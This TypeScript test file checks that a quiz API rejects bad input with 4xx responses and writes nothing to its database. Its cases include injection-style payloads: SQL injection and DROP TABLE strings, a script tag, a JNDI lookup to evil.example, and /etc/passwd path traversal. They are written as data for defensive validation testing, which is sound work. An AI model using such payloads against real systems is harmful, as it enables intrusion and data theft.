/**
 * Bad input over every quiz endpoint: malformed JSON, wrong types, missing and unknown
 * fields, oversized bodies, wrong content types, broken quizzes, Unicode edge cases and
 * injection-looking strings. Every answer must be a 4xx problem+json naming the problem, never
 * a 5xx, and the database must hold exactly the rows it held before (nothing half-written).
 */
import request from 'supertest';
import { badJsonBodyCases, badParamCases, FORGED_CURSORS, type BadRequestCase } from '@quizmesh/platform/testing';
import { authorQuizSchema, startAttemptResponseSchema } from '@quizmesh/contracts/quiz-api';
import { as, newUser, quizBody, rowCounts, startQuiz, type QuizUnderTest } from './harness';

type Who = 'author' | 'player';
type BadCase = BadRequestCase<Who>;
type Method = BadCase['method'];

const author = newUser('author');
const player = newUser('player');
const wrongTypes: unknown[] = [42, 'text', true, null, ['x'], { $gt: '' }];
const injection = [
  "' OR '1'='1' --",
  '"; DROP TABLE "Quiz"; --',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '../../etc/passwd',
];

function jsonBodyCases(
  method: Method,
  path: string,
  valid: Record<string, unknown>,
  who: BadCase['as'],
  required = true,
): BadCase[] {
  const base = { method, path, as: who };
  return badJsonBodyCases(valid, {
    wrongTypes,
    skipSameKind: true,
    unknownField: { authorId: newUser().id },
    required,
  }).map((c) => ({ ...base, ...c }));
}

/** An option as [text, correct, id]: correct or id left out when not given. */
type OptionRow = [text: string, correct?: boolean, id?: string];
const option = ([text, correct, id]: OptionRow) => ({
  ...(id === undefined ? {} : { id }),
  text,
  ...(correct === undefined ? {} : { correct }),
});

function quizContentCases(method: Method, path: string): BadCase[] {
  const valid = quizBody();
  const question = valid.questions[0];
  const with_ = (name: string, change: Record<string, unknown>, field: string): BadCase => ({
    name,
    method,
    path,
    as: 'author',
    body: { ...valid, ...change },
    status: 400,
    field,
  });
  const withQuestion = (name: string, change: Record<string, unknown>, field: string): BadCase =>
    with_(name, { questions: [{ ...question, ...change }] }, `body.questions.0${field}`);
  const text = (what: string, value: string): Array<[string, string]> => [[what, value]];
  return [
    ...[
      ...text('a NUL byte', 'Planets\u0000'),
      ...text('a lone surrogate', 'Planets\ud800'),
      ...text('a right-to-left override', 'Planets\u202Egnirts'),
      ...text('201 characters', 'p'.repeat(201)),
      ...text('201 emoji', '🪐'.repeat(201)),
      ...text('only whitespace', ' \t\u3000 '),
      ...text('an empty string', ''),
      ...text('a line break', 'Two\nlines'),
    ].map(([what, value]) => with_(`title with ${what}`, { title: value }, 'body.title')),
    with_('a description with a NUL byte', { description: 'a\u0000b' }, 'body.description'),
    with_('a 2001-character description', { description: 'd'.repeat(2_001) }, 'body.description'),
    with_('a tag with markup', { tags: ['<script>'] }, 'body.tags.0'),
    with_('a 31-character tag', { tags: ['t'.repeat(31)] }, 'body.tags.0'),
    with_('11 tags', { tags: Array.from({ length: 11 }, (_, i) => `tag${i}`) }, 'body.tags'),
    with_('a tag repeated in another case', { tags: ['Space', 'space'] }, 'body.tags'),
    with_('an unknown difficulty', { difficulty: 'impossible' }, 'body.difficulty'),
    with_('an upper-case difficulty', { difficulty: 'EASY' }, 'body.difficulty'),
    with_('a 5-second time limit', { timeLimitSeconds: 5 }, 'body.timeLimitSeconds'),
    with_('a 5-hour time limit', { timeLimitSeconds: 18_000 }, 'body.timeLimitSeconds'),
    with_('a fractional time limit', { timeLimitSeconds: 30.5 }, 'body.timeLimitSeconds'),
    with_('a time limit as a string', { timeLimitSeconds: '300' }, 'body.timeLimitSeconds'),
    {
      name: 'an infinite time limit (1e400)',
      method,
      path,
      as: 'author',
      raw: {
        text: JSON.stringify(valid).replace('"timeLimitSeconds":300', '"timeLimitSeconds":1e400'),
        contentType: 'application/json',
      },
      status: 400,
      field: 'body.timeLimitSeconds',
    },
    with_('51 questions', { questions: Array.from({ length: 51 }, () => question) }, 'body.questions'),
    with_(
      'a repeated question id',
      {
        questions: [
          { ...question, id: author.id },
          { ...question, id: author.id },
        ],
      },
      'body.questions',
    ),
    withQuestion('an essay question', { type: 'essay' }, '.type'),
    withQuestion('one option', { options: [{ text: 'Only', correct: true }] }, '.options'),
    withQuestion(
      '11 options',
      { options: Array.from({ length: 11 }, (_, i) => ({ text: `o${i}`, correct: i === 0 })) },
      '.options',
    ),
    ...(
      [
        ['two correct options on a single-choice question', {}, ['A', true], ['B', true], '.options'],
        [
          'no correct option on a multiple-choice question',
          { type: 'multiple' },
          ['A', false],
          ['B', false],
          '.options',
        ],
        ['a repeated option', {}, ['Same', true], ['same', false], '.options'],
        ['an option without correct', {}, ['A'], ['B', true], '.options.0.correct'],
        ['an option id that is not a UUID', {}, ['A', true, "1' OR '1'='1"], ['B', false], '.options.0.id'],
      ] as Array<[string, Record<string, unknown>, OptionRow, OptionRow, string]>
    ).map(([name, change, first, second, field]) =>
      withQuestion(name, { ...change, options: [option(first), option(second)] }, field),
    ),
    withQuestion('0 points', { points: 0 }, '.points'),
    withQuestion('101 points', { points: 101 }, '.points'),
    withQuestion('1.5 points', { points: 1.5 }, '.points'),
    withQuestion('an empty question text', { text: '   ' }, '.text'),
    withQuestion('a question text with a NUL byte', { text: 'What\u0000?' }, '.text'),
    withQuestion('a 1001-character question text', { text: 'q'.repeat(1_001) }, '.text'),
    withQuestion('a 2001-character explanation', { explanation: 'e'.repeat(2_001) }, '.explanation'),
  ];
}

const submitValid = { answers: [] };

function queryCases(path: string): BadCase[] {
  const get = (name: string, query: string, field: string, who?: BadCase['as']): BadCase => ({
    name,
    method: 'get',
    path: `${path}?${query}`,
    ...(who ? { as: who } : {}),
    status: 400,
    field,
  });
  return [
    get('limit 0', 'limit=0', 'query.limit'),
    get('limit 101', 'limit=101', 'query.limit'),
    get('limit abc', 'limit=abc', 'query.limit'),
    get('a cursor that is not one', `cursor=${encodeURIComponent("' OR 1=1 --")}`, 'query.cursor'),
    get('a well-formed cursor that decodes to garbage', 'cursor=Zm9vYmFy', 'query.cursor'),
    ...FORGED_CURSORS.map((cursor, i) => get(`forged cursor ${i + 1}`, `cursor=${cursor}`, 'query.cursor')),
    get('an unknown difficulty', 'difficulty=extreme', 'query.difficulty'),
    get('an unknown status', 'status=deleted', 'query.status'),
    get('a tag with markup', `tag=${encodeURIComponent('<script>')}`, 'query.tag'),
    get('a repeated tag', 'tag=a&tag=b', 'query.tag'),
    get('an empty search', 'q=', 'query.q'),
    get('a search with a NUL byte', 'q=a%00b', 'query.q'),
    get('an overlong search', `q=${'s'.repeat(201)}`, 'query.q'),
    get('an unknown parameter', 'sort=title', 'sort'),
    get(
      'an injection-looking status',
      `status=${encodeURIComponent("published' OR '1'='1")}`,
      'query.status',
      'author',
    ),
  ];
}

describe('quiz rejects bad input', () => {
  let quiz: QuizUnderTest;
  let quizId: string;
  let attemptId: string;
  let cases: BadCase[];

  beforeAll(async () => {
    quiz = await startQuiz();
    const created = await request(quiz.url).post('/api/v1/quizzes').set(as(author)).send(quizBody());
    quizId = authorQuizSchema.parse(created.body).id;
    await request(quiz.url).post(`/api/v1/quizzes/${quizId}/publish`).set(as(author)).expect(200);
    // A draft of version 2, so PUT and PATCH validate against an existing draft.
    await request(quiz.url).patch(`/api/v1/quizzes/${quizId}`).set(as(author)).send({ title: 'v2' }).expect(201);
    const started = await request(quiz.url).post(`/api/v1/quizzes/${quizId}/attempts`).set(as(player));
    attemptId = startAttemptResponseSchema.parse(started.body).attempt.id;

    const valid = quizBody();
    const quizPath = `/api/v1/quizzes/${quizId}`;
    const submitPath = `/api/v1/attempts/${attemptId}/submit`;
    cases = [
      ...jsonBodyCases('post', '/api/v1/quizzes', valid, 'author').filter(
        (c) => !['missing description', 'missing tags'].includes(c.name),
      ),
      ...jsonBodyCases('post', '/api/quizzes', valid, 'author').filter(
        (c) => !['missing description', 'missing tags'].includes(c.name),
      ),
      ...jsonBodyCases('put', quizPath, valid, 'author').filter(
        (c) => !['missing description', 'missing tags'].includes(c.name),
      ),
      ...jsonBodyCases('patch', quizPath, { title: 'Renamed' }, 'author', false),
      {
        name: 'an empty PATCH',
        method: 'patch',
        path: quizPath,
        as: 'author',
        body: {},
        status: 400,
        field: 'nothing to update',
      },
      ...quizContentCases('post', '/api/v1/quizzes'),
      ...quizContentCases('put', quizPath),
      ...jsonBodyCases('post', submitPath, submitValid, 'player'),
      ...[
        ['answers that are not a list', { answers: 'all of them' }, 'body.answers'],
        [
          'a question id that is not a UUID',
          { answers: [{ questionId: '1; DROP TABLE "Attempt"', optionIds: [] }] },
          'body.answers.0.questionId',
        ],
        [
          'an option id that is not a UUID',
          { answers: [{ questionId: quizId, optionIds: ['<script>'] }] },
          'body.answers.0.optionIds.0',
        ],
        [
          'a repeated question',
          {
            answers: [
              { questionId: quizId, optionIds: [] },
              { questionId: quizId, optionIds: [] },
            ],
          },
          'body.answers',
        ],
        [
          'a repeated option',
          { answers: [{ questionId: quizId, optionIds: [quizId, quizId] }] },
          'body.answers.0.optionIds',
        ],
        [
          '11 options',
          { answers: [{ questionId: quizId, optionIds: Array.from({ length: 11 }, () => newUser().id) }] },
          'body.answers.0.optionIds',
        ],
        ['missing optionIds', { answers: [{ questionId: quizId }] }, 'body.answers.0.optionIds'],
        ['an unknown answer field', { answers: [{ questionId: quizId, optionIds: [], correct: true }] }, 'correct'],
        [
          'an unknown question of this quiz',
          { answers: [{ questionId: quizId, optionIds: [] }] },
          'body.answers.0.questionId',
        ],
      ].map(([name, body, field]) => ({
        name: `submit with ${String(name)}`,
        method: 'post' as const,
        path: submitPath,
        as: 'player' as const,
        body,
        status: 400,
        field: String(field),
      })),
      ...queryCases('/api/v1/quizzes'),
      ...queryCases('/api/quizzes'),
      ...badParamCases<Who>(['not-a-uuid', "1' OR '1'='1", '..%2F..%2Fetc', '%00'], 'params.id', [
        { name: 'GET a quiz with id', method: 'get', path: '/api/v1/quizzes/:value' },
        { name: 'GET a seed quiz with id', method: 'get', path: '/api/quizzes/:value' },
        {
          name: 'PATCH a quiz with id',
          method: 'patch',
          path: '/api/v1/quizzes/:value',
          as: 'author',
          body: { title: 'x' },
        },
        { name: 'publish a quiz with id', method: 'post', path: '/api/v1/quizzes/:value/publish', as: 'author' },
        { name: 'start an attempt at quiz', method: 'post', path: '/api/v1/quizzes/:value/attempts', as: 'player' },
        { name: 'GET attempt', method: 'get', path: '/api/v1/attempts/:value', as: 'player' },
        { name: 'review attempt', method: 'get', path: '/api/v1/attempts/:value/review', as: 'player' },
        {
          name: 'submit attempt',
          method: 'post',
          path: '/api/v1/attempts/:value/submit',
          as: 'player',
          body: submitValid,
        },
      ]),
      ...['0', '-1', 'abc', '1.5', '99999999999'].map((version) => ({
        name: `GET version ${version}`,
        method: 'get' as const,
        path: `/api/v1/quizzes/${quizId}/versions/${version}`,
        as: 'author' as const,
        status: 400,
        field: 'params.version',
      })),
      {
        name: 'a version that does not exist',
        method: 'get',
        path: `/api/v1/quizzes/${quizId}/versions/7`,
        as: 'author',
        status: 404,
      },
      { name: 'a quiz that does not exist', method: 'get', path: `/api/v1/quizzes/${newUser().id}`, status: 404 },
      {
        name: 'publishing a quiz that does not exist',
        method: 'post',
        path: `/api/v1/quizzes/${newUser().id}/publish`,
        as: 'author',
        status: 404,
      },
      {
        name: 'an attempt at a quiz that does not exist',
        method: 'post',
        path: `/api/v1/quizzes/${newUser().id}/attempts`,
        as: 'player',
        status: 404,
      },
      {
        name: 'submitting an attempt that does not exist',
        method: 'post',
        path: `/api/v1/attempts/${newUser().id}/submit`,
        as: 'player',
        body: submitValid,
        status: 404,
      },
      { name: 'an unknown route', method: 'get', path: '/api/v1/quizzes/x/y/z', status: 404 },
    ];
  });

  afterAll(async () => {
    await quiz?.stop();
  });

  it('answers every case with the expected 4xx problem+json naming the field, and writes nothing', async () => {
    const before = await rowCounts(quiz.prisma);
    const failures: string[] = [];
    for (const c of cases) {
      let req = request(quiz.url)[c.method](c.path);
      if (c.as) req = req.set(as(c.as === 'author' ? author : player));
      const res = c.raw
        ? await req.set('content-type', c.raw.contentType).send(c.raw.text)
        : c.body !== undefined
          ? await req.send(c.body as object)
          : await req;
      const problems: string[] = [];
      if (res.status !== c.status) problems.push(`status ${res.status}`);
      if (!String(res.headers['content-type']).startsWith('application/problem+json'))
        problems.push(`content-type ${String(res.headers['content-type'])}`);
      if (c.field && !JSON.stringify(res.body).includes(c.field))
        problems.push(`does not name ${c.field}: ${JSON.stringify(res.body).slice(0, 300)}`);
      if (problems.length > 0) failures.push(`${c.method.toUpperCase()} ${c.path} ${c.name}: ${problems.join('; ')}`);
    }
    expect(failures).toEqual([]);
    expect(cases.length).toBeGreaterThan(250);
    expect(await rowCounts(quiz.prisma)).toEqual(before);
    expect(quiz.logLines.filter((l) => l.includes('"level":"error"') || l.includes('"statusCode":5'))).toEqual([]);
  });

  it('stores injection-looking and non-Latin text verbatim where it is just text', async () => {
    for (const title of [...injection, 'Ταξίδι στο διάστημα 🚀', 'رحلة إلى الفضاء', 'e\u0301toiles (NFD)']) {
      const res = await request(quiz.url)
        .post('/api/v1/quizzes')
        .set(as(author))
        .send(quizBody({ title, description: title }));
      expect(res.status).toBe(201);
      const created = authorQuizSchema.parse(res.body);
      expect(created.title).toBe(title.normalize('NFC'));
      const stored = await quiz.prisma.quizVersion.findFirstOrThrow({ where: { quizId: created.id } });
      expect(stored.description).toBe(title.normalize('NFC'));
    }
  });
});
